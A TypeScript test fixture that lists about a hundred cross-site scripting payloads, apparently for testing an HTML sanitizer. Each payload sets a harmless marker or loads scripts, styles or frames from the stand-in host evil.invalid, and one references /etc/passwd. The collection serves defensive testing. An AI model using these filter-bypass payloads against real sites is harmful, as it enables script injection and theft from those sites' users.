// A hundred known injection tricks. Each sets `window.hacked` or requests evil.invalid if it succeeds.

const scripts = [
  '<script>hacked=1</script>',
  '<SCRIPT>hacked=1</SCRIPT>',
  '<scr<script>ipt>hacked=1</scr</script>ipt>',
  '<script src=https://evil.invalid/x.js></script>',
  '<script src=//evil.invalid/x.js></script>',
  '<script type=module>import("https://evil.invalid/m.js")</script>',
  '<script\n>hacked=1</script\n>',
  '<script/x>hacked=1</script/x>',
  '</script><script>hacked=1</script>',
  '</textarea><script>hacked=1</script>',
  '</title><script>hacked=1</script>',
  '</style><script>hacked=1</script>',
  '<noscript><p title="</noscript><img src=x onerror=hacked=1>">',
  '--><script>hacked=1</script><!--',
  ']]><script>hacked=1</script>',
  '<![CDATA[<script>hacked=1</script>]]>',
];

const handlers = [
  '<img src=x onerror=hacked=1>',
  '<img src=x onerror="window.hacked=1">',
  "<img src='x' onerror='hacked=1'>",
  '<img/src=x/onerror=hacked=1>',
  '<img src=x:x oneRROR=hacked=1>',
  '<img src=x onerror=&#104;acked=1>',
  '<img src=https://evil.invalid/pixel.gif>',
  '<img srcset="https://evil.invalid/2x.gif 2x">',
  '<body onload=hacked=1>',
  '<input autofocus onfocus=hacked=1>',
  '<select autofocus onfocus=hacked=1><option>1</select>',
  '<textarea autofocus onfocus=hacked=1></textarea>',
  '<details open ontoggle=hacked=1><summary>x</summary></details>',
  '<video><source onerror=hacked=1></video>',
  '<video src=https://evil.invalid/v.mp4 onloadstart=hacked=1 autoplay></video>',
  '<audio src=x onerror=hacked=1></audio>',
  '<marquee onstart=hacked=1>x</marquee>',
  '<div onpointerenter=hacked=1 style="position:fixed;inset:0;z-index:9999">x</div>',
  '<p style="animation:x" onanimationstart=hacked=1>x</p>',
  '<a href=x onclick=hacked=1 autofocus tabindex=1 onfocus=hacked=1>x</a>',
  '<dialog open oncancel=hacked=1><form method=dialog><button>x</button></form></dialog>',
  '<button popovertarget=x onbeforetoggle=hacked=1>x</button><p popover id=x ontoggle=hacked=1>',
];

const addresses = [
  'javascript:hacked=1',
  'JaVaScRiPt:hacked=1',
  ' javascript:hacked=1',
  'java\tscript:hacked=1',
  'java\nscript:hacked=1',
  'java\u0000script:hacked=1',
  '\u0001javascript:hacked=1',
  'javascript&colon;hacked=1',
  '&#106;avascript:hacked=1',
  'javascript://evil.invalid/%0Ahacked=1',
  'javascript:/*--></title></style></textarea></script><svg/onload=hacked=1>',
  'vbscript:hacked=1',
  'data:text/html,<script>hacked=1</script>',
  'data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hacked=1"/>',
  'blob:https://evil.invalid/1',
  'file:///etc/passwd',
  '//evil.invalid/x',
  '\\\\evil.invalid\\x',
  'https:\\\\evil.invalid\\x',
  'https://shop.example@evil.invalid/x',
  '<a href="javascript:hacked=1">x</a>',
  '<a href="java&#10;script:hacked=1">x</a>',
  '<base href=https://evil.invalid/>',
  '<form action=javascript:hacked=1><button autofocus>x</button></form>',
  '<button form=f formaction=javascript:hacked=1>x</button>',
  '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  '<link rel=stylesheet href=https://evil.invalid/x.css>',
];

const frames = [
  '<iframe src=javascript:hacked=1></iframe>',
  '<iframe src=https://evil.invalid/></iframe>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.hacked=1&gt;"></iframe>',
  '<object data=javascript:hacked=1></object>',
  '<object data=https://evil.invalid/x.swf></object>',
  '<embed src=https://evil.invalid/x.swf>',
];

const foreign = [
  '<svg onload=hacked=1>',
  '<svg/onload=hacked=1//',
  '<svg><script>hacked=1</script></svg>',
  '<svg><animate onbegin=hacked=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hacked=1"><text x=20 y=20>x</text></a></svg>',
  '<svg><use href="https://evil.invalid/x.svg#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hacked=1></style></mglyph></table></mtext></math>',
  '<math href="javascript:hacked=1">x</math>',
  '<svg><style><img src=x onerror=hacked=1></style></svg>',
];

const styles = [
  '<style>*{background:url(https://evil.invalid/s)!important;display:none!important}</style>',
  '<style>@import "https://evil.invalid/x.css";</style>',
  'url(https://evil.invalid/c.png)',
  'red;background-image:url(https://evil.invalid/d.png)',
  'image-set("https://evil.invalid/e.png" 1x)',
  'expression(hacked=1)',
];

const templates = [
  '{{constructor.constructor("hacked=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it is about
  '${hacked=1}',
  '<template shadowrootmode=open><img src=x onerror=hacked=1></template>',
  '<slot></slot><pannier-node data-pannier-node>{name} {count} $& $1 %s</pannier-node>',
  '__proto__',
  'constructor',
];

const broken = [
  '"><img src=x onerror=hacked=1>',
  `'"autofocus onfocus=hacked=1 x="`,
  '\u202e\u2066<img src=x onerror=hacked=1>\u2069\u202c',
  '\uff1cscript\uff1ehacked=1\uff1c/script\uff1e',
  '&lt;img src=x onerror=hacked=1&gt;',
  'A\u0300\u0301\u0302\u0303\u0304\u0305\u0306'.repeat(30),
];

export const xssPayloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...frames,
  ...foreign,
  ...styles,
  ...templates,
  ...broken,
];
